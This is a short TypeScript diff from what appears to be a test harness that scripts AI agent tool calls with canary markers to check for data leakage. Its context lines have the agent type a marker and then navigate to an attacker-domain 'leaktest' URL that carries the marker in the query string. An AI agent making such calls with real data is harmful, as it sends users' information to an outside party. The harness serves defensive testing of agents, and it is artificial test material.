@@ -106,7 +106,7 @@ export function plays({ values, marker, markerNumber }: Canaries): Readonly<Reco
       { call: "type", input: { ref: markerNumber, text: marker } },
       go(`https://open.${attackerDomain}/leaktest?${marker}`),
       go(`https://open.example/?say=${marker}`),
-      done(writtenOut(marker)),
+      { call: "done", input: { result: writtenOut(marker).join("\n") } },
     ],
   };
 }
